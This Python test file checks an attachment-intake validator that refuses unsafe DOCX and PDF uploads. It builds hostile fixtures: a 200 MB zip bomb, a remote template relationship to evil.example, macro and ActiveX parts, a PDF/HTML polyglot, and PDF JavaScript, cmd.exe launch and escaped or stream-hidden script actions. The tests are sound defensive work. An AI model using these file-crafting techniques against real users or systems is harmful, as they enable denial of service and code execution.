"""Attachments that are more than they claim are refused, each with a reason in Chinese and English: a
DOCX that inflates to 200 MB, one with an external relationship or macros, a PDF/HTML polyglot, PDFs with
script or launch actions (also spelt with escapes or hidden in an object stream)."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import pytest

from services.intake.domain import docx_safety
from services.intake.domain.documents import inspect
from shared.errors import Reason, Refused

DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx(extra: dict[str, bytes] | None = None, zeros_mb: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("word/document.xml", DOCUMENT)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
        if zeros_mb:
            padding = zipfile.ZipInfo("word/media/padding.xml")
            padding.compress_type = zipfile.ZIP_DEFLATED
            with z.open(padding, "w", force_zip64=True) as member:
                for _ in range(zeros_mb):
                    member.write(bytes(1024 * 1024))
    return out.getvalue()


def codes(name: str, content: bytes) -> list[str]:
    with pytest.raises(Refused) as refused:
        inspect(name, content)
    assert all(r.message_zh and r.message_en for r in refused.value.reasons)
    return [r.code for r in refused.value.reasons]


def test_a_small_docx_that_inflates_to_200_mb_is_refused_from_its_directory() -> None:
    bomb = docx(zeros_mb=200)
    assert len(bomb) < 400 * 1024  # about 0.2 MB stored
    assert codes("plan.docx", bomb) == ["docx_inflates_too_large"]


def test_a_docx_compressed_far_beyond_what_text_is_refused() -> None:
    assert codes("plan.docx", docx(zeros_mb=5)) == ["docx_compression_ratio"]


def test_a_docx_whose_directory_understates_a_part_is_refused_while_streaming(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # the directory's sizes pass, the stream counter still stops at the cap
    monkeypatch.setattr(docx_safety, "MAX_INFLATED", 1024 * 1024)
    monkeypatch.setattr(docx_safety, "_too_large", _only_streamed(docx_safety._too_large))
    assert codes("plan.docx", docx(zeros_mb=3)) == ["docx_inflates_too_large"]


def _only_streamed(check: Callable[[int, int], Reason | None]) -> Callable[[int, int], Reason | None]:
    """The check, blind on its first call (the directory's)."""
    calls = iter(range(10**6))
    return lambda total, stored: None if next(calls) == 0 else check(total, stored)


def test_a_docx_with_an_external_relationship_is_refused_but_a_hyperlink_is_kept() -> None:
    external = '<Relationship Id="r1" Type="{}" Target="{}" TargetMode="External"/>'
    template = external.format(f"{REL}attachedTemplate", "http://evil.example/t.dotm")
    link = external.format(f"{REL}hyperlink", "https://www.mca.gov.cn/")
    fetched = docx({"word/_rels/settings.xml.rels": RELS.format(template).encode()})
    assert codes("plan.docx", fetched) == ["docx_external_relationship"]
    linked = docx({"word/_rels/document.xml.rels": RELS.format(link).encode()})
    assert inspect("plan.docx", linked).kind == "docx"


def test_a_docx_with_macros_or_activex_is_refused() -> None:
    assert codes("plan.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})) == ["docx_active_content"]
    assert codes("plan.docx", docx({"word/activeX/activeX1.xml": b"<ax/>"})) == ["docx_active_content"]


PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def test_a_pdf_html_polyglot_is_refused() -> None:
    polyglot = b"%PDF-1.7\n%<html><body><script>fetch('/intake/api')</script></body></html>\n" + PDF[9:]
    assert codes("plan.pdf", polyglot) == ["pdf_carries_html"]
    assert codes("plan.pdf", b"<!DOCTYPE html><script>x()</script>\n" + PDF) == ["pdf_header_misplaced"]
    assert inspect("plan.pdf", PDF).kind == "pdf"


@pytest.mark.parametrize(
    "action",
    [b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/OpenAction<</S/Launch/F(cmd.exe)>>",
     b"/Names << /EmbeddedFiles 2 0 R >>", b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"],
)  # fmt: skip
def test_a_pdf_with_script_launch_or_embedded_files_is_refused(action: bytes) -> None:
    crafted = PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + action)
    assert codes("plan.pdf", crafted) == ["pdf_active_content"]


def test_script_hidden_in_a_compressed_object_stream_is_found() -> None:
    hidden = zlib.compress(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>")
    objstm = b"3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + hidden
    assert codes("plan.pdf", PDF + objstm + b"\nendstream endobj\n") == ["pdf_active_content"]
